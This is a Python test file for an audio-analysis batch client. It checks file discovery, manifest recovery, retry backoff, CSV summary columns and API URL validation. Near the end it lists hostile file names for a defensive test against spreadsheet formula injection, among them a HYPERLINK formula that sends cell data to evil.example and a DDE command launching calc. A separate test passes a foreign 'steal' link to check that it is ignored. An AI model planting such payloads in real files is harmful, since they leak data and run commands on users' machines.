"""The batch client's own logic: discovery, manifest, summary rows, idempotency keys, backoff.

Everything that talks HTTP is tested against the real service in tests/integration/test_submit.py
and tests/earshot/test_client.py.
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path
from typing import Any

import httpx
import pytest

from earshot.batch.discover import discover
from earshot.batch.manifest import Manifest
from earshot.batch.summary import build_summary, summary_row, write_summary
from earshot.client import UsageError, result_url
from earshot.client.files import idempotency_key
from earshot.client.http import backoff_delay, parse_retry_after
from earshot.submit_cmd import check_api_url, parse_formats
from tests.earshot.batch_doc import documented_columns


def touch(path: Path, data: bytes = b"x") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def test_discovery_walks_folders_names_outputs_relative_to_root_and_skips_non_audio(
    tmp_path: Path,
) -> None:
    root = tmp_path / "music"
    touch(root / "a.mp3")
    touch(root / "a.wav")
    touch(root / "sub" / "deeper" / "track.OGG")
    touch(root / "notes.txt")
    touch(root / ".hidden.wav")
    touch(root / ".cache" / "b.wav")
    found = discover([root])
    assert [i.rel for i in found.inputs] == ["a.mp3", "a.wav", "sub/deeper/track.OGG"]
    assert found.skipped == [root / "notes.txt"]


def test_discovery_keeps_a_named_file_whatever_its_extension(tmp_path: Path) -> None:
    odd = touch(tmp_path / "recording.bin")
    found = discover([odd])
    assert [(i.path, i.rel) for i in found.inputs] == [(odd, "recording.bin")]


def test_discovery_patterns_replace_the_defaults_and_may_match_subpaths(tmp_path: Path) -> None:
    touch(tmp_path / "keep" / "x.wav")
    touch(tmp_path / "drop" / "y.wav")
    touch(tmp_path / "z.flac")
    found = discover([tmp_path], patterns=["keep/*.wav", "*.FLAC"])
    assert [i.rel for i in found.inputs] == ["keep/x.wav", "z.flac"]


def test_discovery_never_walks_the_output_folder(tmp_path: Path) -> None:
    touch(tmp_path / "in.wav")
    out = tmp_path / "results"
    touch(out / "in.wav.json")
    touch(out / "copy.wav")
    assert [i.rel for i in discover([tmp_path], exclude=out).inputs] == ["in.wav"]


def test_discovery_rejects_missing_paths_and_colliding_outputs(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no such file"):
        discover([tmp_path / "missing"])
    a = touch(tmp_path / "one" / "a.wav", b"1")
    b = touch(tmp_path / "two" / "a.wav", b"2")
    with pytest.raises(UsageError, match=r"'a\.wav'"):
        discover([a, b])
    # The same file named twice (directly and through its folder) is one input.
    assert len(discover([a, tmp_path / "one"]).inputs) == 1


def test_idempotency_key_depends_on_content_profile_and_retry_only() -> None:
    sha = "ab" * 32
    key = idempotency_key(sha, profile="standard")
    assert key == idempotency_key(sha, profile="standard", attempt=0)
    assert len(key) == 64
    assert key != idempotency_key("cd" * 32, profile="standard")
    assert key != idempotency_key(sha, profile="fast")
    assert key != idempotency_key(sha, profile="standard", attempt=1)
    assert idempotency_key(sha, profile="standard", attempt=1) != idempotency_key(
        sha, profile="standard", attempt=2
    )


def test_manifest_latest_record_wins_and_a_torn_last_line_is_dropped(tmp_path: Path) -> None:
    path = tmp_path / "manifest.jsonl"
    manifest = Manifest(path)
    manifest.open()
    manifest.append({"path": "a.wav", "status": "queued", "job_id": "j1"})
    manifest.append({"path": "b.wav", "status": "failed", "job_id": "j2"})
    manifest.append({"path": "a.wav", "status": "succeeded", "job_id": "j1"})
    manifest.close()
    assert len(path.read_text().splitlines()) == 3
    # An interruption in the middle of an append leaves half a line behind.
    with path.open("a") as fh:
        fh.write('{"path": "c.wav", "stat')

    again = Manifest(path)
    assert {k: v["status"] for k, v in again.records.items()} == {
        "a.wav": "succeeded",
        "b.wav": "failed",
    }
    again.open()  # compacts: one line per path, the torn line gone
    again.append({"path": "c.wav", "status": "queued", "job_id": "j3"})
    again.close()
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert [(r["path"], r["status"]) for r in lines] == [
        ("a.wav", "succeeded"),
        ("b.wav", "failed"),
        ("c.wav", "queued"),
    ]


def test_manifest_compaction_leaves_no_temporary_files(tmp_path: Path) -> None:
    manifest = Manifest(tmp_path / "manifest.jsonl")
    manifest.open()
    manifest.append({"path": "a.wav", "status": "queued"})
    manifest.compact()
    manifest.append({"path": "a.wav", "status": "succeeded"})
    manifest.close()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["manifest.jsonl"]
    assert Manifest.load(tmp_path / "manifest.jsonl")["a.wav"]["status"] == "succeeded"


def test_backoff_grows_exponentially_to_a_cap_with_bounded_jitter() -> None:
    low = [backoff_delay(n, rand=lambda: 0.0) for n in range(10)]
    high = [backoff_delay(n, rand=lambda: 1.0) for n in range(10)]
    assert low[:4] == [0.25, 0.5, 1.0, 2.0]
    assert high[:4] == [0.5, 1.0, 2.0, 4.0]
    assert low[-1] == 15.0 and high[-1] == 30.0
    assert all(lo <= hi for lo, hi in zip(low, high, strict=True))


def test_backoff_never_comes_back_before_retry_after() -> None:
    assert backoff_delay(0, retry_after=5.0, rand=lambda: 0.0) == 5.0
    assert 5.0 <= backoff_delay(0, retry_after=5.0, rand=lambda: 0.99) < 6.0
    # A longer exponential delay is not shortened by a short Retry-After.
    assert backoff_delay(6, retry_after=1.0, rand=lambda: 0.0) == 15.0


def test_retry_after_accepts_seconds_and_http_dates() -> None:
    now = datetime(2025, 1, 1, 12, 0, 0, tzinfo=UTC)
    assert parse_retry_after("7") == 7.0
    assert parse_retry_after(
        format_datetime(now + timedelta(seconds=30), usegmt=True), now=now
    ) == (30.0)
    assert parse_retry_after(
        format_datetime(now - timedelta(seconds=30), usegmt=True), now=now
    ) == (0.0)
    assert parse_retry_after(None) is None
    assert parse_retry_after("soon") is None


def test_submit_help_lists_the_profiles_and_refuses_others(capsys: pytest.CaptureFixture) -> None:
    from earshot.cli import main

    with pytest.raises(SystemExit) as exited:
        main(["submit", "--help"])
    assert exited.value.code == 0
    # docs/result.md, Profiles: the two profiles a user can choose.
    assert "--profile {standard,fast}" in capsys.readouterr().out
    with pytest.raises(SystemExit) as exited:
        main(["submit", "x.wav", "--out", "o", "--profile", "turbo"])
    assert exited.value.code == 2
    assert "invalid choice: 'turbo'" in capsys.readouterr().err


def test_formats_always_include_the_result_document() -> None:
    assert parse_formats("csv") == ("json", "csv")
    assert parse_formats("npz, json,csv") == ("json", "csv", "npz")
    with pytest.raises(UsageError, match="xml"):
        parse_formats("json,xml")


# A result document written by hand: each value below is what its column must read.
RESULT: dict[str, Any] = {
    "analyzer_version": "9.9.9",
    "profile": "fast",
    "audio": {
        "duration_s": 8.0,
        "sample_rate": 44100,
        "channels": 2,
        "format": "wav",
        "codec": "pcm_16",
        "sha256": "ab" * 32,
    },
    "summary": {
        "tempo": {"bpm": 120.2, "confidence": 0.9},
        "beats_s": [0.5, 1.0, 1.5],
        "meter": {"beats_per_bar": 3, "confidence": 0.7},
        "key": {"tonic": "C", "mode": "major", "confidence": 0.8},
        "loudness": {"integrated_lufs": -14.5, "peak_dbfs": -1.0, "rms_mean_db": -20.0},
        "sections": [{"start_s": 0.0}, {"start_s": 4.0}],
        "scores": {"energy": 0.25, "valence": None},
        "spectral_centroid_hz": {"mean": 1500.0, "std": 100.0},
        "mfcc": {"mean": [float(i) for i in range(20)], "std": [0.5] * 20},
        "chroma": {
            "pitch_classes": ["C", "C#", "D", "D#", "E", "F", "F#", "G", "G#", "A", "A#", "B"],
            "mean": [i / 100 for i in range(12)],
        },
    },
    "frames": {"names": ["rms"]},
}


def read_summary(path: Path) -> tuple[list[str], dict[str, dict[str, str]]]:
    with path.open(newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        rows = {row["path"]: row for row in reader}
        return list(reader.fieldnames or []), rows


def test_summary_csv_has_a_row_per_input_with_its_outcome_and_the_documented_columns(
    tmp_path: Path,
) -> None:
    out = tmp_path / "out"
    manifest = Manifest(out / "manifest.jsonl")
    manifest.open()
    (out / "sub").mkdir()
    (out / "sub" / "a.wav.json").write_text(json.dumps(RESULT), encoding="utf-8")
    manifest.append({"path": "sub/a.wav", "status": "succeeded", "job_id": "j1", "profile": "x"})
    error = {"code": "unreadable_audio", "message": "not audio: truncated FLAC"}
    manifest.append({"path": "b.flac", "status": "failed", "job_id": "j2", "error": error})
    manifest.append({"path": "c.ogg", "status": "running", "job_id": "j3", "profile": "fast"})
    manifest.append({"path": "gone.wav", "status": "succeeded", "job_id": "j4"})
    manifest.close()

    assert build_summary(out, manifest, ["sub/a.wav", "b.flac", "c.ogg", "d.mp3"]) == 5

    header, rows = read_summary(out / "summary.csv")
    assert header == documented_columns()
    assert list(rows) == ["b.flac", "c.ogg", "d.mp3", "gone.wav", "sub/a.wav"]
    failed = rows["b.flac"]
    assert (failed["status"], failed["error"], failed["job_id"]) == (
        "failed",
        "unreadable_audio",
        "j2",
    )
    assert failed["error_message"] == "not audio: truncated FLAC" and failed["tempo_bpm"] == ""
    assert (rows["c.ogg"]["status"], rows["c.ogg"]["error"]) == ("running", "")
    assert rows["d.mp3"]["status"] == "not_submitted" and rows["d.mp3"]["job_id"] == ""
    assert rows["gone.wav"]["status"] == "succeeded"
    assert rows["gone.wav"]["error"] == "result_unreadable"

    row = rows["sub/a.wav"]
    assert (row["status"], row["error"], row["job_id"]) == ("succeeded", "", "j1")
    assert (row["profile"], row["analyzer_version"]) == ("fast", "9.9.9")
    assert (row["format"], row["codec"], row["sha256"]) == ("wav", "pcm_16", "ab" * 32)
    assert (row["key"], row["mode"]) == ("C", "major")
    numbers = {
        "duration_s": 8.0,
        "sample_rate_hz": 44100,
        "channels": 2,
        "tempo_bpm": 120.2,
        "tempo_confidence": 0.9,
        "beat_count": 3,
        "beats_per_bar": 3,
        "meter_confidence": 0.7,
        "key_confidence": 0.8,
        "section_count": 2,
        "loudness_lufs": -14.5,
        "peak_dbfs": -1.0,
        "rms_db_mean": -20.0,
        "energy": 0.25,
        "spectral_centroid_hz_mean": 1500.0,
        "spectral_centroid_hz_std": 100.0,
        "mfcc_01_mean": 0.0,
        "mfcc_20_mean": 19.0,
        "mfcc_07_std": 0.5,
        "chroma_C_mean": 0.0,
        "chroma_C#_mean": 0.01,
        "chroma_A_mean": 0.09,
        "chroma_B_mean": 0.11,
    }
    assert {name: float(row[name]) for name in numbers} == numbers
    # Fields the document does not have, or has as null, are empty cells, not zeros.
    assert row["valence"] == row["danceability"] == row["end_of_fade_in_s"] == ""
    assert row["spectral_contrast_01_db_mean"] == row["loudness_range_lu"] == ""


def test_chroma_columns_follow_the_documents_pitch_classes(tmp_path: Path) -> None:
    names = ["A", "A#", "B", "C", "C#", "D", "D#", "E", "F", "F#", "G", "G#"]
    doc = {"summary": {"chroma": {"pitch_classes": names, "mean": [i / 10 for i in range(12)]}}}
    write_summary(
        tmp_path / "summary.csv",
        [summary_row("x.wav", {"status": "succeeded"}, doc)],
    )
    _, rows = read_summary(tmp_path / "summary.csv")
    assert float(rows["x.wav"]["chroma_A_mean"]) == 0.0
    assert float(rows["x.wav"]["chroma_C_mean"]) == 0.3


def test_the_client_starts_without_importing_the_analysis_stack() -> None:
    # A fresh interpreter: this test process may have imported numpy for other tests.
    code = (
        "import sys, earshot.cli, earshot.submit_cmd, earshot.client; "
        "heavy = {'numpy', 'librosa', 'scipy', 'celery', 'sqlalchemy'} & set(sys.modules); "
        "print(sorted(heavy))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


# A spreadsheet runs a cell as a formula when it starts with one of these (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = [
    '=HYPERLINK("evil.example?leak="&A1,"click").wav',
    "+cmd|' -C calc'!A0.wav",
    "-2+3.wav",
    "@SUM(A1:A9).wav",
    "\tTAB.wav",
    "\rCR.wav",
    "plain.wav",
]


def test_summary_csv_neutralises_formula_text_and_keeps_numbers_numbers(tmp_path: Path) -> None:
    out = tmp_path / "out"
    manifest = Manifest(out / "manifest.jsonl")
    manifest.open()
    for name in HOSTILE_NAMES:
        doc = {
            "audio": {"duration_s": 8.0, "sample_rate": 44100, "format": "=1+1"},
            "summary": {
                "key": {"tonic": "@A", "mode": "-minor"},
                "loudness": {"integrated_lufs": -14.2, "peak_dbfs": -1.0},
                "tempo": {"bpm": 120.0},
            },
        }
        (out / f"{name}.json").write_text(json.dumps(doc), encoding="utf-8")
        manifest.append({"path": name, "status": "succeeded"})
    manifest.close()

    assert build_summary(out, manifest) == len(HOSTILE_NAMES)

    with (out / "summary.csv").open(newline="", encoding="utf-8") as fh:
        header, *rows = list(csv.reader(fh))
    assert len(rows) == len(HOSTILE_NAMES)
    col = {name: i for i, name in enumerate(header)}
    text_columns = ("path", "key", "mode", "format")
    number_columns = ("duration_s", "tempo_bpm", "loudness_lufs", "sample_rate_hz", "peak_dbfs")
    names = set()
    for row in rows:
        for cell in row:
            # The spreadsheet's own rule: nothing that starts like a formula unless a number.
            if cell.startswith(FORMULA_STARTS):
                float(cell)
        path = row[col["path"]]
        names.add(path[1:] if path.startswith("'") else path)
        if path != "plain.wav":
            assert path.startswith("'") and path[1:].startswith(FORMULA_STARTS), path
        for name in text_columns[1:]:
            assert row[col[name]].startswith("'"), (name, row[col[name]])
        assert [float(row[col[name]]) for name in number_columns] == [8.0, 120.0, -14.2, 44100, -1]
    assert names == set(HOSTILE_NAMES)
    assert (row[col["key"]], row[col["mode"]]) == ("'@A", "'-minor")


def test_result_urls_carry_their_format_through_the_http_client() -> None:
    job = {
        "id": "3f2a",
        "links": {
            "result": "/v1/analyses/3f2a/result",
            "csv": "/v1/analyses/3f2a/result?format=csv",
            "npz": "/v1/analyses/3f2a/result?format=npz",
        },
    }
    linkless = {"id": "3f/2a"}
    foreign = {"id": "3f2a", "links": {"csv": "https://elsewhere.example/steal?format=csv"}}
    with httpx.Client(base_url="http://127.0.0.1:8000/prefix") as client:
        for fmt in ("json", "csv", "npz"):
            for doc in (job, linkless):
                url = client.build_request("GET", result_url(doc, fmt)).url
                assert url.params.get_list("format") == [fmt], url
                assert url.host == "127.0.0.1" and url.path.startswith("/prefix/v1/analyses/")
        url = client.build_request("GET", result_url(foreign, "csv")).url
        assert (url.host, url.path) == ("127.0.0.1", "/prefix/v1/analyses/3f2a/result")


@pytest.mark.parametrize(
    "url", ["localhost:8000", "127.0.0.1:8000", "ftp://host/", "http://", "http://h:70000"]
)
def test_api_url_must_be_http_with_a_host_and_a_valid_port(url: str) -> None:
    with pytest.raises(UsageError, match="--api-url"):
        check_api_url(url)
    check_api_url("http://127.0.0.1:8000")
    check_api_url("https://earshot.example/base")
